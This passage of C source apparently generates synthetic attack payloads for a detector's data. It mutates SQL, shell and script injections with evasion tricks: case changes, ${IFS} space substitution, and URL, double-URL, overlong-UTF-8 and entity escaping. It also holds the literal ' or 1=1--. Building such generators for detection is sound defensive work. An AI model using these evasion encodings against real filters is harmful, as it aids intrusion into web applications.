    uint32_t count = family == ATTACK_SQL ? sizeof blanks / sizeof *blanks : 7;
    const char *blank = blanks[synth_below(random, count)];
    if (family != ATTACK_SQL && blank[0] == '/') blank = "${IFS}";
    if (blank[0] == ' ') return;
    AttackText out = {.length = 0};
    for (uint32_t i = 0; i < text->length; i++)
        if (text->bytes[i] == ' ')
            attack_append(&out, "%s", blank);
        else
            attack_put(&out, text->bytes[i]);
    *text = out;
}

/* Bytes that are no letter or digit, written as escapes of one kind: all of them, or only those in `which`.
 */
static void encode(AttackText *text, const char *format, const char *which) {
    AttackText out = {.length = 0};
    for (uint32_t i = 0; i < text->length; i++) {
        char c = text->bytes[i];
        char escape[16];
        if (attack_is_plain(c) || (*which && !strchr(which, c))) {
            attack_put(&out, c);
            continue;
        }
        switch (*format) {
        case 'p': snprintf(escape, sizeof escape, "%%%02X", (unsigned char)c); break;
        case 'q': snprintf(escape, sizeof escape, "%%%02x", (unsigned char)c); break;
        case 'd': snprintf(escape, sizeof escape, "%%25%02X", (unsigned char)c); break;
        case 'u': snprintf(escape, sizeof escape, "\\u%04x", (unsigned char)c); break;
        case 'x': snprintf(escape, sizeof escape, "\\x%02x", (unsigned char)c); break;
        case 'e': snprintf(escape, sizeof escape, "&#%u;", (unsigned char)c); break;
        case 'o': snprintf(escape, sizeof escape, "%%c%u%%%02x", (unsigned)c >> 6 & 1, 128 | (c & 63)); break;
        case 'O': snprintf(escape, sizeof escape, "\\%03o", (unsigned char)c); break;
        case 'w': snprintf(escape, sizeof escape, "%%u%04X", (unsigned char)c); break;
        default: snprintf(escape, sizeof escape, "&#x%x;", (unsigned char)c); break;
        }
        attack_append(&out, "%s", escape);
    }
    *text = out;
}

static void disguise(SynthRandom *random, AttackPayload family, AttackText *text) {
    if (synth_below(random, 100) >= 35 || family == ATTACK_FORMAT || family == ATTACK_LOG) return;
    static const char *const marks[] = {"'\"<>", "<>", " '\"", "'", "/.", "(){}$", " ", ";|&`", ""};
    const char *format = &"ppqqduxewohO"[synth_below(random, 12)];
    bool keeps_meaning = family == ATTACK_SCRIPT || family == ATTACK_MARKUP || family == ATTACK_PATH ||
                         *format == 'p' || *format == 'q' || *format == 'd';
    const char *which = SYNTH_PICK(random, marks);
    encode(text, keeps_meaning ? format : "p", which);
    if (synth_below(random, 8) == 0) encode(text, "d", "%");
}

/* What an honest sender would have written there, before or behind. Before, it is short: the text channel
 * (data/features/text.c) shows 64 bytes of a field, and they should show the payload. */
static void surround(SynthRandom *random, AttackText *text) {
    enum { NAME_ROOM = 24 };
    uint32_t kind = synth_below(random, 10);
    if (kind > 2) return;
    AttackText out = {.length = 0};
    char words[NAME_ROOM];
    SynthText honest = synth_text(words, sizeof words);
    synth_oddity(random, SYNTH_ODD_NAME, &honest);
    synth_text_end(&honest);
    if (kind == 2)
        attack_append(&out, "%s %s", text->bytes, words);
    else
        attack_append(&out, "%s%s%s", words, kind ? " " : "", text->bytes);
    *text = out;
}

void attack_payload(SynthRandom *random, AttackPayload family, AttackText *text) {
    text->length = 0;
    text->bytes[0] = 0;
    attack_expand(random, payload_rules[family], text);
    if (family == ATTACK_SQL || family == ATTACK_SCRIPT) change_case(random, text);
    if (family == ATTACK_SQL || family == ATTACK_SHELL) change_blanks(random, family, text);
    disguise(random, family, text);
    surround(random, text);
    if (text->length < 4) attack_append(text, "' or 1=1--");
}
